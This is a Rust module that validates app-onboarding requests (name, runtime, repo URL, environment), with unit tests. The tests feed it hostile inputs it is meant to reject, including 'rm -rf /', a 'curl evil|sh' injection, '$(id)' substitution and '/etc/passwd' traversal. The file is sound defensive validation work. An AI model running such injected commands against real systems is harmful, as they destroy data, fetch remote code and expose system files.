//! Onboarding validation: deterministic rules, each refusal with a reason and what would pass.

use bus_schema::OnboardRequest;

/// Runtimes an app may declare.
pub const RUNTIMES: &[&str] = &["backend", "frontend", "worker", "job", "static"];

/// Longest accepted repository URL.
pub const MAX_REPO_URL: usize = 500;

/// Why an onboarding request is refused (stable codes on the proof log).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal {
    pub code: &'static str,
    pub message: String,
}

fn refuse(code: &'static str, message: String) -> Result<(), Refusal> {
    Err(Refusal { code, message })
}

/// Checks a request. `exists` says whether the app is already onboarded in that env.
pub fn validate(req: &OnboardRequest, exists: bool, allow_prod: bool) -> Result<(), Refusal> {
    let name = req.app_name.as_str();
    let name_ok = (3..=50).contains(&name.len())
        && name.bytes().next().is_some_and(|c| c.is_ascii_lowercase() || c.is_ascii_digit())
        && name.bytes().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == b'-');
    if !name_ok {
        return refuse("invalid_app_name", format!("{:?} must match ^[a-z0-9][a-z0-9-]{{2,49}}$", shown(name)));
    }
    if exists {
        return refuse("duplicate_app", format!("{name} is already onboarded in {}", req.env));
    }
    if !RUNTIMES.contains(&req.runtime.as_str()) {
        return refuse("invalid_runtime", format!("runtime {:?} is not one of: {}", shown(&req.runtime), RUNTIMES.join(", ")));
    }
    check_repo_url(&req.repo_url)?;
    if req.env.as_str() == "prod" && !allow_prod {
        return refuse("env_not_allowed", "onboarding straight to prod is not allowed by policy; onboard in dev or stage first".to_owned());
    }
    Ok(())
}

fn check_repo_url(url: &str) -> Result<(), Refusal> {
    if url.len() > MAX_REPO_URL {
        return refuse("invalid_repo_url", format!("repo_url is {} characters; at most {MAX_REPO_URL}", url.len()));
    }
    let Some(rest) = url.strip_prefix("https://") else {
        return refuse("invalid_repo_url", format!("repo_url {:?} must start with https://", shown(url)));
    };
    if let Some(bad) = url.chars().find(|c| c.is_whitespace() || c.is_control() || ";|&$`<>(){}[]'\"\\*?!#".contains(*c)) {
        return refuse("invalid_repo_url", format!("repo_url contains {bad:?}, which is not allowed"));
    }
    let host = rest.split('/').next().unwrap_or_default();
    if host.is_empty() || host.contains('@') || !host.contains('.') {
        return refuse("invalid_repo_url", format!("repo_url {:?} has no valid host", shown(url)));
    }
    if rest.split('/').any(|segment| segment == ".." || segment == ".") || rest.contains("%2e") || rest.contains("%2E") {
        return refuse("invalid_repo_url", "repo_url must not contain path traversal".to_owned());
    }
    Ok(())
}

/// At most 80 characters of hostile input in messages.
fn shown(s: &str) -> String {
    s.chars().take(80).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn req(name: &str, url: &str, runtime: &str, env: &str) -> OnboardRequest {
        OnboardRequest { app_name: name.into(), repo_url: url.into(), runtime: runtime.into(), env: env.parse().unwrap() }
    }

    fn code(r: Result<(), Refusal>) -> &'static str {
        r.err().map_or("ok", |r| r.code)
    }

    #[test]
    fn good_and_hostile_requests() {
        let url = "https://example.com/org/demo-api";
        let cases = [
            (req("demo-api", url, "backend", "dev"), false, "ok"),
            (req("demo-api", url, "backend", "dev"), true, "duplicate_app"),
            (req("Demo", url, "backend", "dev"), false, "invalid_app_name"),
            (req("ab", url, "backend", "dev"), false, "invalid_app_name"),
            (req("a;rm -rf /", url, "backend", "dev"), false, "invalid_app_name"),
            (req(&"a".repeat(51), url, "backend", "dev"), false, "invalid_app_name"),
            (req("demo-api", url, "cobol", "dev"), false, "invalid_runtime"),
            (req("demo-api", "http://example.com/x", "backend", "dev"), false, "invalid_repo_url"),
            (req("demo-api", "https://example.com/x;curl evil|sh", "backend", "dev"), false, "invalid_repo_url"),
            (req("demo-api", "https://example.com/$(id)", "backend", "dev"), false, "invalid_repo_url"),
            (req("demo-api", "https://example.com/../../etc/passwd", "backend", "dev"), false, "invalid_repo_url"),
            (req("demo-api", "https://user@evil/x", "backend", "dev"), false, "invalid_repo_url"),
            (req("demo-api", &format!("https://example.com/{}", "x".repeat(500)), "backend", "dev"), false, "invalid_repo_url"),
            (req("demo-api", "file:///etc/passwd", "backend", "dev"), false, "invalid_repo_url"),
            (req("demo-api", url, "backend", "prod"), false, "env_not_allowed"),
        ];
        for (r, exists, expected) in cases {
            assert_eq!(code(validate(&r, exists, false)), expected, "{r:?}");
        }
        assert_eq!(code(validate(&req("demo-api", url, "backend", "prod"), false, true)), "ok");
    }

    #[test]
    fn a_bad_runtime_lists_the_valid_choices() {
        let err = validate(&req("demo-api", "https://example.com/x", "cobol", "dev"), false, false).unwrap_err();
        assert!(err.message.contains("backend, frontend, worker, job, static"), "{}", err.message);
    }
}
